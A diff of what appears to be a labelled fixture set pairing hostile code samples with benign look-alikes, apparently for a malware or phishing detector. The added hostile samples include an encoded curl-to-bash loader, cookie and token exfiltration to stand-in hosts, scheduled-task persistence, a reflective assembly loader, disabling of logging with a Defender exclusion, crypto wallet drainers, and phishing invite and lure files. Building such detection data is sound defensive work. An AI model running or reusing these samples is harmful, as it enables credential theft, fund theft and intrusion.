@@ -38,6 +38,9 @@ const RUN = 'function run(c) { new ActiveXObject("WScript.Shell").Run("cmd /c " 
 const SAVES = (file: string): string =>
   `Set x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "https://www.rates.example/daily.xml", False\r\nx.Send\r\nSet s = CreateObject("ADODB.Stream")\r\ns.Type = 1 : s.Open : s.Write x.responseBody\r\ns.SaveToFile "C:\\Data\\${file}", 2\r\n`
 
+const invitation = (name: string, sender: string, address: string): string =>
+  `BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nORGANIZER;CN="${name}":mailto:${sender}\r\nSUMMARY:Pagamento recusado\\, a sua caixa de correio será encerrada hoje\r\nDESCRIPTION:Confirme o seu e-mail e a palavra-passe em:\\n${address}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`
+
 const PAIRS: readonly (readonly [
   title: string,
   name: string,
@@ -214,6 +217,74 @@ const PAIRS: readonly (readonly [
     'a.js',
     'const p = window.solana; async function f(c) { const bal = await c.getBalance(p.publicKey); const t = new Transaction().add(SystemProgram.transfer({ fromPubkey: p.publicKey, toPubkey: new PublicKey("7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU"), lamports: bal - 5000 })); await p.signTransaction(t) } f(c)',
     'const p = window.solana; async function f(c, to, amount) { const bal = await c.getBalance(p.publicKey); if (bal < amount) return; const t = new Transaction().add(SystemProgram.transfer({ fromPubkey: p.publicKey, toPubkey: to, lamports: amount })); await p.signTransaction(t) } f(c)',
+  ],
+  [
+    'a note that has its reader run what nobody can read',
+    'SKILL.md',
+    `# Notes of a film\n\n**macOS**: copy this command and run it in Terminal:\n\n\`\`\`bash\necho '${Buffer.from('/bin/bash -c "$(curl -fsSL http://203.0.113.142/q)"').toString('base64')}' | base64 -D | bash\n\`\`\`\n`,
+    `# Secrets\n\n**macOS**: copy this command and run it in Terminal:\n\n\`\`\`bash\necho '${Buffer.from('name: example, value: 17').toString('base64')}' | base64 -D > a.yaml\n\`\`\`\n`,
+  ],
+  [
+    'a note that has its reader give his session away',
+    'a.txt',
+    'เครดิตฟรี\n1. F12 > Console\n2. allow pasting\n3. Enter\n\n(async()=>{const t=document.cookie+"|"+JSON.stringify(localStorage);await fetch("https://credit.example/c",{method:"POST",mode:"no-cors",body:btoa(t)})})();\n',
+    'Bug 17\n1. Open DevTools (F12) and paste this in the console:\n\nconsole.log(document.cookie.length, localStorage.length)\n',
+  ],
+  [
+    'a program for games that runs unseen text and stays',
+    'a.lua',
+    'local t = {41,62,47}\nlocal function d(x) local r = {} for i = 1, #x do r[i] = string.char(x[i] + 1) end return table.concat(r) end\nlocal get = loadstring(d(t))()\nos.execute(\'schtasks /create /f /sc daily /tn "Lua" /tr "lua51.exe conf.txt"\')\n',
+    'local chunk = loadstring(io.read("*a"))\nos.execute("clear")\nprint(chunk())\n',
+  ],
+  [
+    'a program for games that runs what a server answers',
+    'a.lua',
+    'local f = io.popen("curl -s https://stat.example/a")\nlocal s = f:read("*a")\nload(s)()\n',
+    'local f = io.popen("curl -s https://stat.example/a")\nlocal s = f:read("*a")\nprint(s)\n',
+  ],
+  [
+    'a notebook that sends tokens with a list of arguments',
+    'a.py',
+    'import pathlib, subprocess, json\nb = {}\nfor f in (".cache/huggingface/token", ".kaggle/kaggle.json"):\n    b[f] = (pathlib.Path.home() / f).read_text()\nsubprocess.run(["curl", "-s", "-d", json.dumps(b), "https://stat.example/n"])\n',
+    'import pathlib, subprocess\nfor f in (".cache/huggingface/token", ".kaggle/kaggle.json"):\n    print(f, (pathlib.Path.home() / f).exists())\nsubprocess.run(["curl", "-s", "-d", "state=ready", "https://stat.example/n"])\n',
+  ],
+  [
+    'a script that loads a library which it decrypts',
+    'a.ps1',
+    "$a = [Security.Cryptography.Aes]::Create(); $a.Key = $k\r\n$m = $a.CreateDecryptor().TransformFinalBlock($d, 16, $d.Length - 16)\r\n[Reflection.Assembly]::('Lo' + 'ad').Invoke($m)\r\n",
+    "[Reflection.Assembly]::LoadWithPartialName('System.Security')\r\n$a = [Security.Cryptography.Aes]::Create(); $a.Key = $k\r\n$m = $a.CreateDecryptor().TransformFinalBlock($d, 16, $d.Length - 16)\r\n[IO.File]::WriteAllBytes($out, $m)\r\n",
+  ],
+  [
+    'a script that keeps no record and is not searched',
+    'a.ps1',
+    "sp 'HKCU:\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging' EnableScriptBlockLogging 0\r\nAdd-MpPreference -ExclusionPath $env:ProgramData -Force\r\n",
+    "sp 'HKLM:\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging' EnableScriptBlockLogging 1\r\nAdd-MpPreference -ExclusionPath 'D:\\Databases' -Force\r\n",
+  ],
+  [
+    'a page in Chinese that empties a wallet',
+    'a.html',
+    '<html><head><meta charset="utf-8"></head><body><h1>空投领取</h1><button id="go">连接钱包</button><script>go.onclick=async()=>{const [me]=await ethereum.request({method:"eth_requestAccounts"});await ethereum.request({method:"eth_sendTransaction",params:[{from:me,to:a,data:"0x095ea7b3"+p(a)+"f".repeat(64)}]});const t="0xa22cb465"+"' +
+      '0'.repeat(120) +
+      '"}</script></body></html>',
+    '<html><head><meta charset="utf-8"></head><body><h1>空投领取</h1><button id="go">连接钱包</button><script>go.onclick=async()=>{const [me]=await ethereum.request({method:"eth_requestAccounts"});go.textContent=me}</script></body></html>',
+  ],
+  [
+    'an extension that sends the cookies of many sites away',
+    'sw.js',
+    'const T = ["a.example", "b.example"];\nconst send = (d) => fetch("https://cfg.example/ck", { method: "POST", body: JSON.stringify(d) });\nasync function run() { for (const d of T) { const c = await chrome.cookies.getAll({ domain: d }); send(c.map((x) => x.name + "=" + x.value)) } }\nchrome.alarms.onAlarm.addListener(run);\n',
+    'const T = ["a.example", "b.example"];\nasync function run() { for (const d of T) { const c = await chrome.cookies.getAll({ domain: d }); chrome.storage.local.set({ [d]: JSON.stringify(c) }) } }\nchrome.alarms.onAlarm.addListener(run);\n',
+  ],
+  [
+    'an invitation whose sender poses as a company',
+    'a.ics',
+    invitation('Microsoft 365 Facturation', 'a@caixa.example', 'https://m365-regularizar.example/login'),
+    invitation('Maria Silva', 'maria@contoso.example', 'https://www.contoso.example/login'),
+  ],
+  [
+    'a PDF with a link whose parameter names an archive of a script',
+    'a.pdf',
+    paper('Factura', 'https://descarga.example/get/?id=FACT_829301.vbs.zip&pw=2025'),
+    paper('Release', 'https://downloads.example/get/?id=widget.min.js.zip&v=2025'),
   ],
   [
     'a note that has its reader run what a server answers',
